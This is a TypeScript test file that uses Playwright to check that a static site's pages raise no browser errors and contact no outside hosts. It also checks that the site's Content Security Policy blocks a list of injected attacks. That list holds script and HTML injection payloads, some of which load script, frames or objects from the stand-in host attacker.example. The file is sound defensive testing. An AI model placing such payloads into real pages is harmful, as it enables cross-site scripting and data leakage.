import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, chromium, type Page, type Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { findBrowser } from '../../../scripts/browser.ts';
import { headersOf } from '../../../src/site/hosting/headers.ts';
import { pagesOf } from '../pages.ts';
import { type Served, serve } from '../serve.ts';

let browser: Browser | undefined;
beforeAll(async () => {
  browser = await chromium.launch(await findBrowser());
});
afterAll(() => browser?.close());

/** Opens one address and does something there; gives what its browser complains of. */
type Visit = (address: string, use: (page: Page) => Promise<unknown>) => Promise<string[]>;

/** A visitor who goes from page to page, and hears what the browser complains of and which other hosts it asks. */
async function visitor(): Promise<Visit> {
  if (browser === undefined) throw new Error('Unexpected visitor outside a test');
  let own = '';
  let found: string[] = [];
  const unanswered = new Set<Request>();
  const page = await browser.newPage();
  page.on('console', (message) => {
    // A busy machine is slow to lay out a long page: that a preloaded typeface waits is no violation.
    const slow = /was preloaded using link preload but not used within a few seconds/;
    if (!['error', 'warning'].includes(message.type()) || slow.test(message.text())) return;
    found.push(message.text());
  });
  page.on('pageerror', ({ message }) => found.push(message));
  page.on('request', (request) => {
    unanswered.add(request);
    if (new URL(request.url()).origin !== own) found.push(request.url());
  });
  page.on('requestfinished', (request) => unanswered.delete(request));
  page.on('requestfailed', (request) => {
    unanswered.delete(request);
    found.push(`${request.url()} failed`);
  });
  return async (address, use) => {
    own = new URL(address).origin;
    await page.goto(address);
    await use(page);
    // What was asked for is there, and what its arrival asks for.
    do await page.waitForTimeout(100);
    while (unanswered.size > 0);
    const heard = found;
    found = [];
    return heard;
  };
}

/** What a reader does on a page of any kind: keys, and every button and switch there is. */
async function use(page: Page): Promise<void> {
  for (const key of ['j', 'k', '?', 'Escape', 'Tab']) await page.keyboard.press(key);
  await page.locator('main :is(button, input, summary)').evaluateAll((controls) => {
    for (const control of controls) if (control instanceof HTMLElement) control.click();
  });
}

const AT_ONCE = 3;

/** Milliseconds for all pages of a site: a slow machine takes a second and more for each. */
const PATIENCE = 300_000;

describe.each(['site', 'testSite'] as const)('%s under the shipped headers', (site) => {
  let served: Served;
  beforeAll(async () => {
    served = await serve(inject(`${site}Folder`), headersOf(''));
  });
  afterAll(() => served.close());

  it(
    'violates nothing and asks nobody else, on any page',
    async () => {
      const pages = pagesOf(inject(`${site}Folder`));
      expect(pages.length).toBeGreaterThan(3);
      // A page waits for its network to fall silent: some wait side by side.
      const left = [...pages];
      const visitAll = async () => {
        const visit = await visitor();
        for (let next = left.pop(); next !== undefined; next = left.pop()) {
          expect(await visit(served.address + next.path, use), next.path).toEqual([]);
        }
      };
      await Promise.all(Array.from({ length: AT_ONCE }, visitAll));
    },
    PATIENCE,
  );
});

describe('an attack that got into a page', () => {
  const attacks = [
    '<script>document.title = "attacked"</script>',
    '<img src="x" onerror="document.title = \'attacked\'">',
    '<script src="https://attacker.example/x.js"></script>',
    '<img src="https://attacker.example/pixel.png">',
    '<style>body { display: none }</style>',
    '<p style="position: fixed">Words</p>',
    '<iframe src="https://attacker.example/"></iframe>',
    '<base href="https://attacker.example/">',
    '<object data="https://attacker.example/x"></object>',
  ];
  let folder = '';
  const closing: (() => Promise<void>)[] = [];
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'facing-pages-'));
    await cp(join(inject('siteFolder'), 'assets'), join(folder, 'assets'), { recursive: true });
    await cp(join(inject('siteFolder'), 'favicon.svg'), join(folder, 'favicon.svg'));
    const page = await readFile(join(inject('siteFolder'), '404.html'), 'utf8');
    for (const [index, attack] of attacks.entries()) {
      await mkdir(join(folder, `${index}`));
      await writeFile(
        join(folder, `${index}`, 'index.html'),
        page.replace('<main>', `<main>${attack}`),
      );
    }
  });
  afterAll(async () => {
    for (const close of closing) await close();
    await rm(folder, { recursive: true, force: true });
  });

  it.each([
    ['the shipped headers', headersOf('')],
    ['the policy in the page alone', {}],
  ])('is stopped by %s', async (_, headers) => {
    const served = await serve(folder, headers);
    closing.push(served.close);
    const visit = await visitor();
    for (const [index, attack] of attacks.entries()) {
      let title: string | undefined;
      const found = await visit(`${served.address}/${index}/`, async (page) => {
        title = await page.title();
      });
      expect(
        found.some((line) => /Content Security Policy/.test(line)),
        attack,
      ).toBe(true);
      expect(
        found.filter((line) => line === 'https://attacker.example/'),
        attack,
      ).toEqual([]);
      expect(title, attack).not.toBe('attacked');
    }
  });
});
